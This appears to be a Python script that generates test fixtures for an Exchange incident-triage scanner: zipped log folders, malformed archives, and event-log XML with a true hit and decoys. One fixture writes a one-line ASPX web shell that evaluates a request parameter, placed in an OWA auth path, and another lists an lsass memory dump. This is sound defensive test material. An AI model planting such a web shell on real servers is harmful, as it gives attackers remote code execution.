#!/usr/bin/env python3
"""Writes fixtures/ioc-extra/: zip archives of a triage folder and exported Application event logs in XML
(made here from fixtures/logs and invented events; no real customer data). Run: python3 scripts/make-ioc-fixtures.py
"""
import gzip
import os
import zipfile

ROOT = os.path.join(os.path.dirname(__file__), '..')
LOGS = os.path.join(ROOT, 'fixtures', 'logs')
OUT = os.path.join(ROOT, 'fixtures', 'ioc-extra')
os.makedirs(OUT, exist_ok=True)

# A triage folder zipped as admins do (deflate), one entry stored, one .gz inside, a bzip2 entry exaudit cannot
# read (reported, not fatal), and a directory entry.
with zipfile.ZipFile(os.path.join(OUT, 'triage-ex01.zip'), 'w') as z:
    z.writestr(zipfile.ZipInfo('Logging/'), b'')
    ecp = os.path.join(LOGS, 'HttpProxy', 'Ecp', 'HttpProxy_2021030100-1.LOG')
    z.write(ecp, 'Logging/HttpProxy/Ecp/HttpProxy_2021030100-1.LOG', compress_type=zipfile.ZIP_DEFLATED)
    oab = os.path.join(LOGS, 'OABGeneratorLog', 'OABGen20210301.LOG')
    z.write(oab, 'Logging/OABGeneratorLog/OABGen20210301.LOG', compress_type=zipfile.ZIP_STORED)
    auto = open(os.path.join(LOGS, 'HttpProxy', 'Autodiscover', 'HttpProxy_2022092910-1.LOG'), 'rb').read()
    z.writestr(zipfile.ZipInfo('Logging/HttpProxy/Autodiscover/HttpProxy_2022092910-1.LOG.gz'), gzip.compress(auto, mtime=0), compress_type=zipfile.ZIP_DEFLATED)
    z.writestr(zipfile.ZipInfo('listing/files-listing.txt'), b'C:\\root\\lsass.dmp\r\n', compress_type=zipfile.ZIP_BZIP2)

# The same kind of content with zip64 records (as large archives have).
with zipfile.ZipFile(os.path.join(OUT, 'triage-zip64.zip'), 'w', compression=zipfile.ZIP_DEFLATED, allowZip64=True) as z:
    with z.open(zipfile.ZipInfo('webroot/owa/auth/errorEE.aspx'), 'w', force_zip64=True) as f:
        f.write(b'<%@ Page Language="Jscript"%><%eval(Request.Item["unsafe"],"unsafe");%>\r\n')

# Not a zip at all, and a zip cut short.
open(os.path.join(OUT, 'not-a-zip.zip'), 'wb').write(b'PK\x03\x04 this is not an archive')
full = open(os.path.join(OUT, 'triage-ex01.zip'), 'rb').read()
open(os.path.join(OUT, 'truncated.zip'), 'wb').write(full[: len(full) // 2])

NS = 'http://schemas.microsoft.com/win/2004/08/events/event'


def event(provider, event_id, level, time, message, rendered=True):
    data = '<EventData><Data>%s</Data></EventData>' % message
    render = '<RenderingInfo Culture="en-US"><Message>%s</Message><Level>%s</Level></RenderingInfo>' % (message, {2: 'Error', 4: 'Information'}[level]) if rendered else ''
    return ('<Event xmlns="%s"><System><Provider Name="%s" /><EventID Qualifiers="49152">%d</EventID><Level>%d</Level>'
            '<Task>0</Task><TimeCreated SystemTime="%s" /><Channel>Application</Channel><Computer>EX01.contoso.lab</Computer></System>%s%s</Event>'
            % (NS, provider, event_id, level, time, data, render))


WATSON = 'Watson report about to be sent for process id: 4321, with parameters: E12, c-RTL-AMD64, 15.01.2176.002, UMWorkerProcess, System.InvalidCastException'
events = [
    event('MSExchange Unified Messaging', 1, 2, '2021-03-02T04:12:33.0000000Z', WATSON),                      # the true hit
    event('MSExchange Unified Messaging', 1, 2, '2021-03-02T04:13:00.0000000Z', 'The Unified Messaging service failed to start'),  # decoy: no InvalidCast
    event('MSExchange Unified Messaging', 1, 4, '2021-03-02T04:14:00.0000000Z', WATSON),                      # decoy: not an error
    event('MSExchange ADAccess', 2080, 2, '2021-03-02T04:15:00.0000000Z', 'System.InvalidCastException in topology'),  # decoy: other source
]
# Event Viewer "Save All Events As… XML": UTF-16 LE with a BOM, one line.
xml = '<?xml version="1.0" encoding="UTF-16"?><Events>' + ''.join(events) + '</Events>'
open(os.path.join(OUT, 'Application-eventviewer.xml'), 'wb').write(b'\xff\xfe' + xml.encode('utf-16-le'))
# wevtutil qe Application /f:xml: one event per line, no root, UTF-8, the last event cut off.
lines = [event('MSExchange Unified Messaging', 1, 2, '2021-03-03T01:00:00.0000000Z', WATSON, rendered=False), events[1], events[0][: len(events[0]) // 2]]
open(os.path.join(OUT, 'Application-wevtutil.xml'), 'w', encoding='utf-8').write('\n'.join(lines) + '\n')
